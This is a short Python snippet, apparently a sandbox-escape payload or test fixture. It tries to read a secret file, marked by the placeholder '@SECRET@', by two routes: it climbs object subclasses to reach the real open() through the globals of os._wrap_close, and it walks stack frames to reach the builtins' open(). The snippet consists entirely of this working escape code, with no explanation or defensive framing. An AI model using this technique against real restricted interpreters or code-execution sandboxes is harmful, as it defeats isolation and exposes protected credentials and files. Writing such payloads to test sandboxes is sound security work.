for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "_wrap_close":
        try:
            print("GOT", cls.__init__.__globals__["open"]("@SECRET@"))
        except (KeyError, OSError):
            pass
import sys
frame = sys._getframe()
while frame:
    try:
        print("GOT", frame.f_builtins["open"]("@SECRET@").read())
    except OSError:
        pass
    frame = frame.f_back
